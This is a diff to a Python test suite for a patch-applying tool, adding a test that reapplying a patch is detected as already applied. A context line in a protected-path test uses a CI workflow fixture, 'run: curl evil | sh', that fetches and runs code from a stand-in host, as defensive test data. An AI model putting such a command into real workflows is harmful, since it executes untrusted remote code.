@@ -125,6 +125,17 @@ def test_a_drifted_target_whose_hunks_do_not_apply_is_refused_naming_them(
     assert _read(tmp_path) == drifted
 
 
+def test_applying_a_patch_again_says_it_is_already_applied_and_writes_nothing(
+    tmp_path: Path,
+) -> None:
+    _write(tmp_path, BEFORE)
+    patch = _make(BEFORE, AFTER)
+    assert _apply(patch, BEFORE, tmp_path).applied
+    again = _apply(patch, BEFORE, tmp_path)
+    assert again.already_applied and not again.applied and again.failed == []
+    assert _read(tmp_path) == AFTER
+
+
 def test_a_protected_path_is_refused_at_apply_time(tmp_path: Path) -> None:
     after = {**BEFORE, ".github/workflows/ci.yml": (b"run: curl evil | sh\n", 0o644)}
     unprotected = _make(BEFORE, after, globs=())
